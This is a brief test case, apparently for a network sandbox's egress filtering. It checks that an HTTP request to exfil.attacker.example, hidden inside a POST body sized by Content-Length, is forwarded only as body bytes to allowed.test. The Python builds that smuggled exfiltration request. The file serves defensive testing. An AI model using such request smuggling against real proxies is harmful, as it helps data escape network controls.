# what: a request for exfil.attacker.example hidden in a Content-Length body: forwarded as body bytes to allowed.test, never as a request
# include: http
# expect-allowed: allowed.test http
# inet: allow allowed.test
# expect-stdout: STATUS: HTTP/1.1
import socket


req = b"GET /exfil HTTP/1.1\r\nHost: exfil.attacker.example\r\n\r\n"
report(exchange("198.18.1.10", 80, b"POST / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(req) + req))
